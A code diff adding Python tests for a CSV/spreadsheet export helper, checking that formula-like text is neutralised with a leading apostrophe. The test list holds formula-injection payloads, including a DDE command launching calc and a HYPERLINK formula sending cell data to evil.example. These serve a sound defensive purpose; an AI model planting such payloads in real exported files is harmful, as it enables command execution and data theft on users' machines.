@@ -22,7 +22,7 @@ from storage.errors import InvalidInput
 from streams.cli.main import app
 from streams.cli.query import Format, _replacing, _write
 from streams.pipeline.model import TableLocation
-from streams.read.plain_values import json_value
+from streams.read.plain_values import csv_cell, json_value, spreadsheet_cell
 from streams.read.sql_query import spark_errors, view_names
 from tests.storage.shop import SHOP, append, orders
 
@@ -47,6 +47,58 @@ def test_a_table_is_called_t_or_by_its_folder(folder: str, names: tuple[str, ...
 )
 def test_values_are_written_as_strict_json(value: Any, text: str) -> None:
     assert json.dumps(json_value(value), allow_nan=False) == text
+
+
+FORMULAS = [
+    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)', "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0"),
+    *(
+        "@SUM(1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1",
+        "\tx",
+        " =1+1",
+        "\u00a0=1",
+        "\ufeff=1",
+        "\uff1d1",
+        "\uff201",
+        "-",
+        "+",
+        "--1",
+    ),
+    *("-1e5x", "-1\n", "-\u0661", "-1,5", "+(1)"),
+]
+"""Texts that a spreadsheet would calculate: OWASP's, and those that trackers of other exporters name."""
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_is_no_formula_in_a_spreadsheet_and_exact_for_programs(text: str) -> None:
+    assert spreadsheet_cell(text) == f"'{text}"
+    assert csv_cell(text) == text
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        *(
+            -5,
+            -1.5,
+            decimal.Decimal("-5.00"),
+            "-5",
+            "+4912345",
+            "-1.5e-7",
+            float("-inf"),
+            "",
+            None,
+            "a=1",
+            "a-b",
+            "'=1",
+        ),
+        *([-1, "=1"], {"=k": 1}, b"=1", dt.date(2026, 1, 1), "\u2212x", "new\tline"),
+    ],
+)
+def test_other_values_are_the_same_in_a_spreadsheet(value: Any) -> None:
+    assert spreadsheet_cell(value) == csv_cell(value)
 
 
 @pytest.mark.spark
